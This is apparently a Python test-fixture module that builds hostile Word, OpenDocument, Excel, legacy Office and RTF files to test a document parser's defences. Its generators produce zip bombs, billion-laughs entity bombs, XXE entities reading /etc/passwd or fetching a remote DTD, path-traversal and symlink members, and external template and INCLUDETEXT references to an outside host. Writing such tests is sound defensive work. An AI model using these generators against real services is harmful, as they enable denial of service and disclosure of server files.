"""Word, OpenDocument, Excel and RTF files that attack or merely annoy a reader, each made from nothing."""

# ruff: noqa: E501, PLW0108 - one line for each file of the table
from __future__ import annotations

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Mapping

from tests.hostile_kinds import (
    BUSY,
    CONTAINER,
    DAMAGED,
    EMPTY,
    ENCRYPTED,
    LONG,
    MB,
    NO_DOCUMENT,
    NOT_YET,
    TEXT,
    TOO_LARGE,
    UNKNOWN,
    Hostile,
)

WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
SENTENCE = "Điều 1. Phạm vi điều chỉnh"
TYPES = {"[Content_Types].xml": b"<Types/>"}
ODT = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'  # fmt: skip
SHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def package(members: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP of these members, in this order."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method, compresslevel=1) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def bomb(name: str, chunk: bytes, times: int, before: bytes = b"", more: Mapping[str, bytes] | None = None) -> bytes:
    """A package whose last member is a chunk so many times over, packed by repeating one block; its checksum is wrong."""
    packer = zlib.compressobj(9, wbits=-15)
    head = packer.compress(before) + packer.flush(zlib.Z_FULL_FLUSH)
    raw = head + (packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)) * times + b"\x03\x00"
    base = package({**(more or {}), **TYPES})
    end = base.rindex(b"PK\x05\x06")
    start, listed = struct.unpack("<I", base[end + 16 : end + 20])[0], struct.unpack("<H", base[end + 10 : end + 12])[0]
    about = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0x21, 1, len(raw), len(before) + len(chunk) * times, len(name), 0)
    local = b"PK\x03\x04" + about + name.encode() + raw
    row = b"PK\x01\x02" + struct.pack("<H", 20) + about + struct.pack("<HHHII", 0, 0, 0, 0, start) + name.encode()
    rows = base[start:end] + row
    last = struct.pack("<HHHHIIH", 0, 0, listed + 1, listed + 1, len(rows), start + len(local), 0)
    return base[:start] + local + rows + b"PK\x05\x06" + last


def docx(body: str, more: Mapping[str, bytes] | None = None, before: str = "") -> bytes:
    document = f"{before}<w:document {WORD}><w:body>{body}</w:body></w:document>".encode()
    return package({**TYPES, "word/document.xml": document, **(more or {})})


def p(text: str = SENTENCE) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def doctype(entities: str, encoding: str = "utf-8") -> Callable[[], bytes]:
    """A DOCX with a document type of its own and a paragraph that shows &x;."""

    def make() -> bytes:
        text = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE d [{entities}]><w:document {WORD}><w:body>{p("&x;")}</w:body></w:document>'  # fmt: skip
        return package({**TYPES, "word/document.xml": text.encode(encoding)})

    return make


LAUGHS = (
    '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10)) + '<!ENTITY x "&a9;">'
)


def overlapping() -> bytes:
    """500 page headers that are all one and the same member of 10 MB."""
    base = package(
        {**TYPES, "word/document.xml": f"<w:document {WORD}/>".encode(), "word/header0.xml": header(10 * MB)}
    )
    end = base.rindex(b"PK\x05\x06")
    start = struct.unpack("<I", base[end + 16 : end + 20])[0]
    row = base[base.rindex(b"PK\x01\x02", 0, end) : end]
    rows = base[start:end] + b"".join(row.replace(b"header0", b"header%c" % n) for n in range(48, 58)) * 50
    return base[:start] + rows + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 503, 503, len(rows), start, 0)


def header(size: int) -> bytes:
    return f"<w:hdr {WORD}>{p() * (size // len(p()))}</w:hdr>".encode()


def many_headers() -> bytes:
    """100 page headers of 5 MB each."""
    part = header(5 * MB)
    return docx(p(), {f"word/header{n}.xml": part for n in range(100)})


def lying_size() -> bytes:
    """A member that says 100 bytes and unpacks to 50 MB."""
    data = bomb("word/document.xml", b" " * MB, 50, b"<w:document>")
    return data.replace(struct.pack("<I", 50 * MB + 12), struct.pack("<I", 100))


def encrypted_member() -> bytes:
    """The flag that says: needs a password."""
    data = bytearray(docx(p()))
    at = data.rindex(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


def nested(tag: str, depth: int, inside: str = "") -> str:
    names = tag.split()
    return "".join(f"<{n}>" for n in names) * depth + inside + "".join(f"</{n}>" for n in reversed(names)) * depth


def with_names(*names: str) -> Callable[[], bytes]:
    return lambda: docx(p(), dict.fromkeys(names, b"boo"))


def symlink() -> bytes:
    """A document part that is a symbolic link out of the package."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo("word/document.xml")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return out.getvalue()


def odt(body: str, before: str = "") -> bytes:
    content = f"{before}<office:document-content {ODT}><office:body><office:text>{body}</office:text></office:body></office:document-content>"  # fmt: skip
    kind = b"application/vnd.oasis.opendocument.text"
    return package({"mimetype": kind, "META-INF/manifest.xml": b"<manifest/>", "content.xml": content.encode()})


def xlsx(sheet: str, strings: str = "", before: str = "") -> bytes:
    parts = {
        "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook {SHEET} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f"<worksheet {SHEET}><sheetData>{sheet}</sheetData></worksheet>",
        "xl/sharedStrings.xml": f"{before}<sst {SHEET}>{strings}</sst>",
    }  # fmt: skip
    return package({**TYPES, **{name: part.encode() for name, part in parts.items()}})


CELL = '<row r="{0}"><c r="{1}{0}" t="inlineStr"><is><t>x</t></is></c></row>'
FAR_SHEET = CELL.format(1, "A") + CELL.format(1048576, "XFD")


def compound(name: str, table: int = 0) -> bytes:
    """An old Office file of four sectors whose allocation table says only `table`: 0 is a chain without end."""
    head = bytes.fromhex("D0CF11E0A1B11AE1") + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    head += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 0, 1, 0, 0) + struct.pack("<I", 0) + b"\xff" * 432
    root = "Root Entry".encode("utf-16-le").ljust(64, b"\0") + struct.pack("<HBBiii", 22, 5, 1, -1, -1, 1) + bytes(36)
    root += struct.pack("<IQ", 1, 1 << 30)
    entry = name.encode("utf-16-le").ljust(64, b"\0") + struct.pack("<HBBiii", 2 * len(name) + 2, 2, 1, 1, 1, 1)
    entry += bytes(36) + struct.pack("<IQ", 1, 1 << 30)
    return head[:512].ljust(512, b"\xff") + struct.pack("<I", table) * 128 + root + entry + bytes(256) + bytes(512)


FIELD = r"{\field{\*\fldinst INCLUDETEXT http://192.0.2.1/ }{\fldrslt "
OFFICE = TEXT | NOT_YET
RELATION = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="%s" TargetMode="External"/></Relationships>'  # fmt: skip

FILES = (
    Hostile("zip-bomb.docx", lambda: bomb("word/document.xml", b" " * MB, 1000, b"<w:document>"), TOO_LARGE),
    Hostile("picture-bomb.docx", lambda: bomb("word/media/a.png", b" " * MB, 1000, more={"word/document.xml": f"<w:document {WORD}><w:body>{p()}</w:body></w:document>".encode()}), TEXT | TOO_LARGE, SENTENCE),
    Hostile("overlapping.docx", overlapping, DAMAGED | TOO_LARGE),
    Hostile("many-headers.docx", many_headers, TOO_LARGE | LONG),
    Hostile("lying-size.docx", lying_size, DAMAGED | TOO_LARGE),
    Hostile("encrypted.docx", encrypted_member, TEXT | ENCRYPTED),
    Hostile("entity-bomb.docx", doctype(LAUGHS), DAMAGED | TOO_LARGE),
    Hostile("entity-bomb-utf16.docx", doctype(LAUGHS, "utf-16"), DAMAGED | TOO_LARGE | EMPTY),
    Hostile("outside-entity.docx", doctype('<!ENTITY x SYSTEM "file:///etc/passwd">'), DAMAGED),
    Hostile("outside-entity-utf16.docx", doctype('<!ENTITY x SYSTEM "file:///etc/passwd">', "utf-16"), DAMAGED | EMPTY),
    Hostile("far-entity.docx", doctype('<!ENTITY % y SYSTEM "http://192.0.2.1/"> %y; <!ENTITY x "1">'), DAMAGED),
    Hostile("late-doctype.docx", lambda: docx(p("&x;"), before="<!--" + " " * 70_000 + "--><!DOCTYPE d [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"), DAMAGED | EMPTY),
    Hostile("deep.docx", lambda: docx(nested("w:sdt", 50_000)), DAMAGED | TOO_LARGE),
    Hostile("deep-tables.docx", lambda: docx(nested("w:tbl w:tr w:tc", 80, p())), TEXT | DAMAGED | TOO_LARGE),
    Hostile("100000-tables.docx", lambda: docx("<w:tbl><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl>" * 100_000 + p()), TEXT | TOO_LARGE | LONG, SENTENCE),
    Hostile("million-runs.docx", lambda: docx("<w:p>" + "<w:r><w:t>a</w:t></w:r>" * 1_000_000 + "</w:p>"), TEXT | TOO_LARGE | LONG),
    Hostile("huge-attribute.docx", lambda: docx(f'<w:p w:rsidR="{"a" * (20 * MB)}"/>' + p()), DAMAGED | TOO_LARGE | TEXT),
    Hostile("huge-word.docx", lambda: docx(p("a" * (60 * MB))), DAMAGED | TOO_LARGE | TEXT),
    Hostile("traversal.docx", with_names("../../../../tmp/vanban-was-here", "/tmp/vanban-was-here", "word/../../x"), TEXT, SENTENCE),
    Hostile("20000-members.docx", lambda: docx(p(), {f"word/media/{n}": b"" for n in range(20_000)}), TOO_LARGE),
    Hostile("symlink.docx", symlink, DAMAGED | EMPTY),
    Hostile("far-relations.docx", lambda: docx(p(), {"word/_rels/document.xml.rels": RELATION % b"http://192.0.2.1/a.dotm"}), TEXT, SENTENCE),
    Hostile("file-relations.docx", lambda: docx(p(), {"word/_rels/document.xml.rels": RELATION % b"file:///etc/passwd"}), TEXT, SENTENCE),
    Hostile("missing-parts.docx", lambda: package({"word/document2.xml": b"<w:document/>"}), DAMAGED | EMPTY),
    Hostile("truncated.docx", lambda: docx(p(), {"word/media/a.bin": bytes(range(256)) * 40})[:400], DAMAGED),
    Hostile("bomb.odt", lambda: bomb("content.xml", b" " * MB, 1000, b"<a>", {"mimetype": b"application/vnd.oasis.opendocument.text", "META-INF/manifest.xml": b"<a/>"}), TOO_LARGE | NOT_YET | DAMAGED | CONTAINER),
    Hostile("blanks.odt", lambda: odt('<text:p>a<text:s text:c="999999999"/>b</text:p>'), OFFICE | TOO_LARGE | DAMAGED),
    Hostile("entity-bomb.odt", lambda: odt("<text:p>&x;</text:p>", f"<!DOCTYPE d [{LAUGHS}]>"), DAMAGED | TOO_LARGE | NOT_YET | EMPTY),
    Hostile("repeated.odt", lambda: odt('<table:table><table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384"><text:p>a</text:p></table:table-cell></table:table-row></table:table>'), OFFICE | TOO_LARGE | BUSY),
    Hostile("deep.odt", lambda: odt(nested("text:section", 50_000)), DAMAGED | TOO_LARGE | NOT_YET | EMPTY),
    Hostile("far-cell.xlsx", lambda: xlsx(FAR_SHEET), OFFICE | TOO_LARGE | BUSY | DAMAGED),
    Hostile("bomb.xlsx", lambda: bomb("xl/worksheets/sheet1.xml", b" " * MB, 1000, b"<worksheet>", {"xl/workbook.xml": b"<workbook/>"}), TOO_LARGE | NOT_YET | DAMAGED),
    Hostile("million-cells.xlsx", lambda: xlsx("".join(f'<row r="{n}">' + "<c><v>1</v></c>" * 100 + "</row>" for n in range(1, 10_001))), OFFICE | TOO_LARGE | NO_DOCUMENT | DAMAGED | LONG),
    Hostile("entity-bomb.xlsx", lambda: xlsx('<row><c t="s"><v>0</v></c></row>', "<si><t>&x;</t></si>", f"<!DOCTYPE d [{LAUGHS}]>"), TEXT | DAMAGED | NOT_YET | EMPTY),
    Hostile("loop.doc", lambda: compound("WordDocument"), DAMAGED | NOT_YET | EMPTY | TEXT),
    Hostile("far.doc", lambda: compound("WordDocument", 0x7FFFFFFF), DAMAGED | NOT_YET | EMPTY | TEXT),
    Hostile("loop.xls", lambda: compound("Workbook"), DAMAGED | NOT_YET | EMPTY | BUSY),
    Hostile("encrypted-package.doc", lambda: compound("EncryptedPackage"), ENCRYPTED | NOT_YET | DAMAGED | UNKNOWN),
    Hostile("deep.rtf", lambda: b"{\\rtf1 " + b"{" * 1_000_000 + b"a" + b"}" * 1_000_000, OFFICE | DAMAGED | TOO_LARGE | BUSY),
    Hostile("bin.rtf", lambda: b"{\\rtf1 a\\bin999999999 " + b"b" * 9999 + b"}", OFFICE | DAMAGED | EMPTY),
    Hostile("fields.rtf", lambda: ("{\\rtf1 " + FIELD * 3000 + "x" + "}}" * 3000 + "}").encode(), OFFICE | DAMAGED | TOO_LARGE | EMPTY),
    Hostile("pictures.rtf", lambda: b"{\\rtf1 Ke hoach {\\pict " + b"0123456789abcdef" * (MB // 2) + b"}}", OFFICE | DAMAGED | TOO_LARGE),
)  # fmt: skip
